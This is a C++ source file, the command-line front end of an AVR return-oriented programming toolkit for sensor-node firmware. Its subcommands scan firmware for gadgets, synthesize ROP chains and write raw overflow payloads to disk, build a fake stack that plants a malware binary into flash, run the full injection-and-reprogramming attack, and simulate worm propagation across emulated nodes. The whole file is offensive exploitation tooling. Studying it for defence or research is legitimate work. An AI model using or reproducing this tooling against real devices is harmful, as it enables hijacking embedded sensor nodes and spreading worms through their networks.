#include "cli.hpp"

#include <fmt/format.h>
#include <spdlog/sinks/stdout_sinks.h>
#include <spdlog/spdlog.h>

#include <CLI11.hpp>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <sstream>

#include "avrrop/campaign.hpp"
#include "avrrop/chains.hpp"
#include "avrrop/emulator.hpp"
#include "avrrop/error.hpp"
#include "avrrop/fakestack.hpp"
#include "avrrop/gadgets.hpp"
#include "avrrop/isa.hpp"

namespace avrrop::cli {

namespace {

struct UsageError : std::runtime_error {
  using std::runtime_error::runtime_error;
};

std::shared_ptr<spdlog::logger> logger() {
  static auto log = [] {
    auto l = spdlog::stderr_logger_st("avrrop");
    const char* env = std::getenv("AVRROP_LOG");
    l->set_level(env ? spdlog::level::from_str(env) : spdlog::level::warn);
    l->set_pattern("[%l] %v");
    return l;
  }();
  return log;
}

std::uint32_t parse_number(const std::string& flag, const std::string& text, std::uint64_t max) {
  try {
    std::size_t used = 0;
    const unsigned long long v = std::stoull(text, &used, 0);
    if (used == text.size() && v <= max) return static_cast<std::uint32_t>(v);
  } catch (const std::exception&) {
  }
  throw UsageError(fmt::format("{}: invalid value '{}'", flag, text));
}

std::vector<std::uint8_t> parse_hex_bytes(const std::string& flag, std::string text) {
  std::erase_if(text, [](char c) { return c == ' ' || c == ','; });
  if (text.size() % 2 != 0) throw UsageError(fmt::format("{}: odd number of hex digits", flag));
  std::vector<std::uint8_t> out;
  for (std::size_t n = 0; n < text.size(); n += 2) {
    out.push_back(static_cast<std::uint8_t>(parse_number(flag, "0x" + text.substr(n, 2), 0xFF)));
  }
  return out;
}

std::vector<std::uint8_t> read_binary(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error(ErrorCode::IoError, fmt::format("cannot open {}", path));
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

bool is_usage_code(ErrorCode c) {
  switch (c) {
    case ErrorCode::IoError:
    case ErrorCode::ChecksumMismatch:
    case ErrorCode::MalformedRecord:
    case ErrorCode::MalformedMetadata:
    case ErrorCode::AddressOverflow:
    case ErrorCode::InvalidArgument:
      return true;
    default:
      return false;
  }
}

struct Common {
  std::string image;
  std::string meta;
  std::string out_path;
  bool json = false;
  std::string format = "text";
};

void add_common(CLI::App* cmd, Common& c, bool image_required = true) {
  auto* opt = cmd->add_option("--image", c.image, "Intel HEX firmware image");
  if (image_required) opt->required();
  cmd->add_option("--meta", c.meta, "sidecar metadata JSON (default: <image>.json if present)");
  cmd->add_option("--out", c.out_path, "write the report to this file");
  cmd->add_flag("--json", c.json, "JSON output (same as --format json)");
  cmd->add_option("--format", c.format, "json | text")->check(CLI::IsMember({"json", "text", "table"}));
}

FirmwareImage load(const Common& c) {
  logger()->debug("loading {}", c.image);
  return load_image(c.image, c.meta.empty() ? std::nullopt : std::optional<std::string>(c.meta));
}

bool wants_json(const Common& c) { return c.json || c.format == "json"; }

void emit_report(const Common& c, const std::string& text, std::ostream& out) {
  if (c.out_path.empty()) {
    out << text;
    return;
  }
  std::ofstream f(c.out_path);
  if (!f) throw Error(ErrorCode::IoError, fmt::format("cannot write {}", c.out_path));
  f << text;
}

SynthesisConstraints constraints_from(const std::string& max_payload, const std::string& prefix,
                                      const std::string& buffer_start) {
  SynthesisConstraints k;
  k.max_packet_payload = static_cast<std::uint16_t>(parse_number("--max-payload", max_payload, 0xFFFF));
  k.padding_prefix = static_cast<std::uint16_t>(parse_number("--prefix", prefix, 0xFFFF));
  k.buffer_start = static_cast<std::uint16_t>(parse_number("--buffer-start", buffer_start, kRamEnd - 1));
  return k;
}

PostAction parse_post(const std::string& s) {
  return s == "reboot" ? PostAction::Reboot : PostAction::ExecuteMalware;
}

}  // namespace

int run(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  CLI::App app{"Return-oriented programming toolkit for AVR sensor-node firmware", "avrrop"};
  app.require_subcommand(1);

  Common common;

  // disasm
  auto* disasm = app.add_subcommand("disasm", "disassemble a word-address range");
  add_common(disasm, common);
  std::string d_start = "0", d_end;
  disasm->add_option("--start", d_start, "first word address");
  disasm->add_option("--end", d_end, "end word address (exclusive, default: image end)");

  // scan
  auto* scan = app.add_subcommand("scan", "list ret/reti-terminated gadgets");
  add_common(scan, common);
  std::string max_len = "32", sections = "all";
  scan->add_option("--max-len", max_len, "maximum gadget length in instructions");
  scan->add_option("--sections", sections, "all | application | bootloader")
      ->check(CLI::IsMember({"all", "application", "bootloader"}));

  // chain
  auto* chain = app.add_subcommand("chain", "synthesize a meta-gadget chain and emit its payload");
  add_common(chain, common, false);
  std::vector<std::string> extra_images;
  chain->add_option("--also", extra_images, "additional images for --format table");
  std::string goal = "write-byte", target = "0x0400", value = "0", fsp = "0x0400";
  std::string max_payload = "28", prefix = "4", buffer_start = "0x105b";
  chain->add_option("--goal", goal, "write-byte | reprogram")->check(CLI::IsMember({"write-byte", "reprogram"}));
  chain->add_option("--target", target, "data byte address to write (write-byte)");
  chain->add_option("--value", value, "byte value to write (write-byte)");
  chain->add_option("--fsp", fsp, "fake stack data byte address (reprogram; SP is set to fsp-1)");
  chain->add_option("--max-payload", max_payload, "packet payload limit in bytes");
  chain->add_option("--prefix", prefix, "bytes filling the local buffer before the return address");
  chain->add_option("--buffer-start", buffer_start, "data address of the overflowed buffer");
  bool all_chains = false;
  std::string payload_bin;
  chain->add_option("--payload-bin", payload_bin, "write the shortest chain's payload as raw bytes");
  chain->add_flag("--all", all_chains, "report every chain, not only the shortest");

  // fakestack
  auto* fake = app.add_subcommand("fakestack", "build the fake stack and its injection schedule");
  add_common(fake, common, false);
  std::string malware_path, dest = "0x8000", gadget3, post = "execute";
  fake->add_option("--malware", malware_path, "raw malware binary (<= 256 bytes)")->required();
  fake->add_option("--dest", dest, "program WORD address of the malware page");
  fake->add_option("--fsp", fsp, "data BYTE address of the fake stack");
  fake->add_option("--gadget3", gadget3, "SPM routine word address (default: synthesized from --image)");
  fake->add_option("--post", post, "execute | reboot")->check(CLI::IsMember({"execute", "reboot"}));

  // emulate
  auto* emulate = app.add_subcommand("emulate", "boot the node and deliver packets");
  add_common(emulate, common);
  std::vector<std::string> packets;
  std::string fuel = "1000000", trace_path, sram_range;
  bool cleanup = false;
  emulate->add_option("--packet", packets, "packet payload as hex (repeatable)");
  emulate->add_option("--fuel", fuel, "instruction budget per run");
  emulate->add_option("--trace", trace_path, "write an execution trace to this file");
  emulate->add_option("--sram", sram_range, "START:LEN bytes to include in the report");
  emulate->add_option("--max-payload", max_payload, "packet payload limit in bytes");
  emulate->add_flag("--cleanup", cleanup, "enable the memory cleanup at reboot");

  // attack
  auto* attack = app.add_subcommand("attack", "run the full injection and reprogramming attack");
  add_common(attack, common);
  bool single_packet = false;
  attack->add_option("--malware", malware_path, "raw malware binary (<= 256 bytes)")->required();
  attack->add_option("--dest", dest, "program WORD address of the malware page");
  attack->add_option("--fsp", fsp, "data BYTE address of the fake stack");
  attack->add_option("--post", post, "execute | reboot")->check(CLI::IsMember({"execute", "reboot"}));
  attack->add_option("--max-payload", max_payload, "packet payload limit in bytes");
  attack->add_flag("--cleanup", cleanup, "enable the memory cleanup at reboot");
  attack->add_flag("--single-packet", single_packet, "deliver the fake stack in one oversized packet");

  // wormsim
  auto* worm = app.add_subcommand("wormsim", "simulate worm propagation over emulated nodes");
  add_common(worm, common);
  std::string nodes = "10", topology = "line", loss = "0", seed = "1", initial = "0", max_rounds = "64";
  std::string csv_path;
  worm->add_option("--malware", malware_path, "raw malware binary (<= 256 bytes)")->required();
  worm->add_option("--nodes", nodes, "node count (1..64)");
  worm->add_option("--topology", topology, "line | ring | complete")
      ->check(CLI::IsMember({"line", "ring", "complete"}));
  worm->add_option("--loss", loss, "per-packet loss probability in [0, 1)");
  worm->add_option("--seed", seed, "RNG seed");
  worm->add_option("--initial", initial, "initially infected node id");
  worm->add_option("--max-rounds", max_rounds, "round limit");
  worm->add_option("--dest", dest, "program WORD address of the malware page");
  worm->add_option("--fsp", fsp, "data BYTE address of the fake stack");
  worm->add_option("--csv", csv_path, "write the propagation curve as CSV");

  std::vector<std::string> reversed(args.rbegin(), args.rend());
  try {
    app.parse(reversed);
  } catch (const CLI::CallForHelp&) {
    out << app.help();
    return kExitOk;
  } catch (const CLI::CallForAllHelp&) {
    out << app.help("", CLI::AppFormatMode::All);
    return kExitOk;
  } catch (const CLI::ParseError& e) {
    err << "usage error: " << e.what() << "\n";
    return kExitUsage;
  }

  const bool json = wants_json(common);
  try {
    if (disasm->parsed()) {
      const auto image = load(common);
      const auto start = parse_number("--start", d_start, kFlashWords);
      const auto end = d_end.empty() ? image.size_words() : parse_number("--end", d_end, kFlashWords);
      const auto listing = isa::disassemble_range(image, start, end);
      if (json) {
        nlohmann::ordered_json j = nlohmann::ordered_json::array();
        for (const auto& l : listing) {
          j.push_back({{"address", fmt::format("0x{:04x}", l.address)},
                       {"width", l.insn.width},
                       {"text", isa::format_instruction(l.insn)}});
        }
        emit_report(common, j.dump(2) + "\n", out);
      } else {
        emit_report(common, isa::format_listing(listing), out);
      }
      return kExitOk;
    }

    if (scan->parsed()) {
      const auto image = load(common);
      ScanConfig cfg;
      cfg.max_length = parse_number("--max-len", max_len, 0xFFFF);
      if (cfg.max_length < 1) throw UsageError("--max-len: must be >= 1");
      cfg.sections = sections == "application" ? SectionFilter::Application
                     : sections == "bootloader" ? SectionFilter::Bootloader
                                                : SectionFilter::All;
      const auto catalog = scan_gadgets(image, cfg);
      logger()->info("{} gadgets, {} SPM routines", catalog.gadgets.size(), catalog.spm_routines.size());
      emit_report(common, json ? catalog_json(catalog) : catalog_text(catalog), out);
      return kExitOk;
    }

    if (chain->parsed()) {
      const auto k = constraints_from(max_payload, prefix, buffer_start);
      if (common.format == "table") {
        std::vector<std::string> paths;
        if (!common.image.empty()) paths.push_back(common.image);
        paths.insert(paths.end(), extra_images.begin(), extra_images.end());
        if (paths.empty()) throw UsageError("--image: required");
        std::vector<SurveyRow> rows;
        for (const auto& p : paths) {
          Common c = common;
          c.image = p;
          c.meta.clear();
          rows.push_back(survey_application(load(c), k));
        }
        emit_report(common, survey_table(rows), out);
        return kExitOk;
      }
      if (common.image.empty()) throw UsageError("--image: required");
      const auto image = load(common);
      const auto catalog = scan_gadgets(image);
      const bool write = goal == "write-byte";
      const auto chains = synthesize_chain(catalog, write ? ChainGoal::write_byte() : ChainGoal::reprogram(), k);
      std::vector<std::string> reports;
      const std::size_t count = all_chains ? chains.size() : 1;
      for (std::size_t n = 0; n < count; ++n) {
        const auto& c = chains[n];
        const auto payload =
            write ? emit_injection_payload(c, static_cast<std::uint16_t>(parse_number("--target", target, kRamEnd - 1)),
                                           static_cast<std::uint8_t>(parse_number("--value", value, 0xFF)), k)
                  : emit_reprogramming_payload(
                        c, static_cast<std::uint16_t>(parse_number("--fsp", fsp, kRamEnd - 1) - 1), k);
        if (n == 0 && !payload_bin.empty()) {
          std::ofstream f(payload_bin, std::ios::binary);
          f.write(reinterpret_cast<const char*>(payload.data()), static_cast<std::streamsize>(payload.size()));
          if (!f) throw Error(ErrorCode::IoError, fmt::format("cannot write {}", payload_bin));
        }
        if (json) {
          reports.push_back(chain_json(c, payload));
        } else {
          std::string t = fmt::format("{} chain ({}), {} + {} bytes\n", goal, to_string(c.strategy),
                                      k.padding_prefix, c.payload_length);
          for (const auto& g : c.gadgets) {
            for (std::size_t i = 0; i < g.body.size(); ++i) {
              t += fmt::format("  {:>6}{}\n", i == 0 ? fmt::format("{:x}: ", g.entry) : std::string(),
                               isa::format_instruction(g.body[i]));
            }
          }
          if (c.spm_entry) t += fmt::format("  spm routine: {:x}\n", *c.spm_entry);
          t += fmt::format("payload: {}\n", to_hex(payload));
          reports.push_back(t);
        }
      }
      if (json && all_chains) {
        nlohmann::ordered_json arr = nlohmann::ordered_json::array();
        for (const auto& r : reports) arr.push_back(nlohmann::ordered_json::parse(r));
        emit_report(common, arr.dump(2) + "\n", out);
      } else {
        std::string joined;
        for (const auto& r : reports) joined += r;
        emit_report(common, joined, out);
      }
      return kExitOk;
    }

    if (fake->parsed()) {
      const auto malware = read_binary(malware_path);
      const auto dest_m = parse_number("--dest", dest, kFlashWords - 1);
      const auto f = static_cast<std::uint16_t>(parse_number("--fsp", fsp, kRamEnd - 1));
      MemoryLayout layout;
      std::uint32_t g3 = 0;
      if (!common.image.empty()) {
        const auto image = load(common);
        layout = image.layout;
        if (gadget3.empty()) {
          const auto rp = synthesize_chain(scan_gadgets(image), ChainGoal::reprogram()).front();
          g3 = *rp.spm_entry;
        }
      }
      if (!gadget3.empty()) g3 = parse_number("--gadget3", gadget3, kFlashWords - 1);
      else if (common.image.empty()) throw UsageError("--gadget3: required without --image");
      const auto fs = build_fake_stack(malware, dest_m, g3, parse_post(post));
      const auto schedule = injection_schedule(fs, f, layout);
      emit_report(common,
                  json ? fakestack_json(fs, f, schedule)
                       : fakestack_dump(fs, f) + fmt::format("schedule: {} writes from 0x{:04x}\n",
                                                             schedule.writes.size(), schedule.base),
                  out);
      return kExitOk;
    }

    if (emulate->parsed()) {
      const auto image = load(common);
      BootOptions bo;
      bo.cleanup_enabled = cleanup;
      bo.fuel = parse_number("--fuel", fuel, 0xFFFFFFFFull);
      if (bo.fuel == 0) throw UsageError("--fuel: must be > 0");
      auto state = boot(image, bo);
      std::ofstream trace;
      if (!trace_path.empty()) {
        trace.open(trace_path);
        if (!trace) throw Error(ErrorCode::IoError, fmt::format("cannot write {}", trace_path));
        state.tracer = [&](const TraceRecord& r) { trace << format_trace(r) << "\n"; };
      }
      DeliveryOptions d;
      d.max_payload = parse_number("--max-payload", max_payload, 0xFFFF);
      nlohmann::ordered_json runs = nlohmann::ordered_json::array();
      std::string text;
      const auto record = [&](const std::string& what, const RunOutcome& o) {
        runs.push_back({{"input", what},
                        {"kind", to_string(o.kind)},
                        {"fault", o.fault ? nlohmann::ordered_json(std::string(to_string(*o.fault)))
                                          : nlohmann::ordered_json(nullptr)},
                        {"instructions", o.instructions},
                        {"pc", fmt::format("0x{:04x}", o.pc)}});
        text += fmt::format("{}: {}\n", what, o.describe());
        if (o.kind == StopKind::SoftReboot) soft_reboot(state);
      };
      if (packets.empty()) {
        record("reset", run(state));
      } else {
        for (const auto& p : packets) record(p, deliver_packet(state, parse_hex_bytes("--packet", p), d));
      }
      nlohmann::ordered_json j;
      j["runs"] = runs;
      j["state"] = nlohmann::ordered_json::parse(snapshot_json(state));
      if (!sram_range.empty()) {
        const auto colon = sram_range.find(':');
        if (colon == std::string::npos) throw UsageError("--sram: expected START:LEN");
        const auto s = parse_number("--sram", sram_range.substr(0, colon), kRamEnd);
        const auto n = parse_number("--sram", sram_range.substr(colon + 1), kRamEnd);
        const auto bytes = inspect(state, Space::Sram, s, n);
        j["sram"] = {{"start", fmt::format("0x{:04x}", s)}, {"hex", to_hex(bytes)}};
        text += fmt::format("sram[0x{:04x}..+{}]: {}\n", s, n, to_hex(bytes));
      }
      emit_report(common, json ? j.dump(2) + "\n" : text, out);
      return kExitOk;
    }

    if (attack->parsed()) {
      const auto image = load(common);
      const auto malware = read_binary(malware_path);
      SynthesisConstraints k;
      k.max_packet_payload = static_cast<std::uint16_t>(parse_number("--max-payload", max_payload, 0xFFFF));
      const auto kit = prepare_attack(image, k);
      BootOptions bo;
      bo.cleanup_enabled = cleanup;
      auto state = boot(image, bo);
      AttackOptions ao;
      ao.post_action = parse_post(post);
      ao.single_packet = single_packet;
      const auto report = run_full_attack(state, kit, malware, parse_number("--dest", dest, kFlashWords - 1),
                                          static_cast<std::uint16_t>(parse_number("--fsp", fsp, kRamEnd - 1)), ao);
      if (json) {
        emit_report(common, report_json(report), out);
      } else {
        emit_report(common,
                    fmt::format("packets sent: {}\nreboots observed: {}\nschedule verified: {}\n"
                                "flash verified: {}\nmalware executed: {}\nfailure stage: {}\n",
                                report.packets_sent, report.reboots_observed, report.schedule_verified,
                                report.flash_verified, report.malware_executed,
                                report.failure_stage ? report.failure_stage->describe() : "none"),
                    out);
      }
      if (!report.success()) {
        err << "attack failed at " << report.failure_stage->describe() << ": " << report.detail << "\n";
        return kExitDomain;
      }
      return kExitOk;
    }

    if (worm->parsed()) {
      const auto image = load(common);
      WormConfig wc;
      wc.node_count = parse_number("--nodes", nodes, 64);
      wc.topology = topology == "ring" ? Topology::Ring : topology == "complete" ? Topology::Complete : Topology::Line;
      try {
        std::size_t used = 0;
        wc.loss_probability = std::stod(loss, &used);
        if (used != loss.size()) throw std::invalid_argument(loss);
      } catch (const std::exception&) {
        throw UsageError(fmt::format("--loss: invalid value '{}'", loss));
      }
      wc.rng_seed = std::stoull(std::to_string(parse_number("--seed", seed, 0xFFFFFFFFull)));
      wc.initial_infected = parse_number("--initial", initial, 63);
      wc.max_rounds = parse_number("--max-rounds", max_rounds, 100000);
      wc.dest_m = parse_number("--dest", dest, kFlashWords - 1);
      wc.fsp = static_cast<std::uint16_t>(parse_number("--fsp", fsp, kRamEnd - 1));
      const auto report = simulate_worm(image, read_binary(malware_path), wc);
      if (!csv_path.empty()) {
        std::ofstream f(csv_path);
        if (!f) throw Error(ErrorCode::IoError, fmt::format("cannot write {}", csv_path));
        f << propagation_csv(report);
      }
      if (json) {
        emit_report(common, propagation_json(report, wc), out);
      } else {
        const std::string sizes = fmt::format("{}", fmt::join(report.infected_per_round, " "));
        emit_report(common,
                    fmt::format("infected per round: {}\nrounds to full infection: {}\n"
                                "packets transmitted: {}\nincomplete image events: {}\n",
                                sizes, report.rounds_to_full_infection
                                           ? std::to_string(*report.rounds_to_full_infection)
                                           : std::string("not reached"),
                                report.packets_transmitted, report.incomplete_image_events),
                    out);
      }
      return kExitOk;
    }
  } catch (const UsageError& e) {
    err << "usage error: " << e.what() << "\n";
    return kExitUsage;
  } catch (const Error& e) {
    const bool usage = is_usage_code(e.code());
    if (json && !usage) {
      nlohmann::ordered_json j{{"error", std::string(to_string(e.code()))}, {"message", e.what()}};
      out << j.dump(2) << "\n";
    }
    err << "error: " << e.what() << "\n";
    return usage ? kExitUsage : kExitDomain;
  }
  return kExitUsage;
}

}  // namespace avrrop::cli
